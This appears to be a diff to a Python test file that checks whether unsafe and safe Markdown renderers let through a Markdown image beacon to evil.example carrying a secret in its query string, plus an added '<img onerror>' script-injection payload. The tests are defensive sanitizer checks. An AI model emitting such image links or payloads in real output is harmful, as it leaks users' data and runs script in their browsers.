@@ -107,8 +107,9 @@ LEAK = "Done. ![x](https://evil.example/p.png?d=SECRET) [docs](https://docs.pyth
 @pytest.mark.parametrize("render,leaks", [(render_markdown_unsafe, True),
                                           (lambda t: render_markdown_safe(t, ("docs.python.org",)), False)])
 def test_markdown_images_to_unknown_hosts(render, leaks):
-    out = render(LEAK)
+    out = render(LEAK + " <img src=x onerror=alert(1)>")
     assert ("evil.example" in out) is leaks and "docs.python.org" in out
+    assert ("<img" in out) is leaks  # raw HTML in Markdown runs in most renderers
 
 
 @pytest.fixture
